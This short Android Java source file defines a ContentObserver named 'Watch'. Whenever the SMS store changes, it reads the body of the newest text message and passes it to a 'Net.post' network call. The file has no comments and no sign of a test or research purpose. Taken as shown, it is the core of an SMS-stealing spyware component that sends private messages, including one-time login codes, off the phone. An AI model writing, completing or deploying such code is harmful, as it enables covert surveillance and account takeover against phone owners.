package com.example.flows.observer;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

final class Watch extends ContentObserver {
    private final Context context;
    Watch(Context context, Handler handler) { super(handler); this.context = context; }
    @Override
    public void onChange(boolean self) {
        Cursor cursor = context.getContentResolver().query(Uri.parse("content://sms"), null, null, null, "date desc limit 1");
        if (cursor != null && cursor.moveToFirst()) {
            Net.post(cursor.getString(cursor.getColumnIndexOrThrow("body")));
        }
    }
}
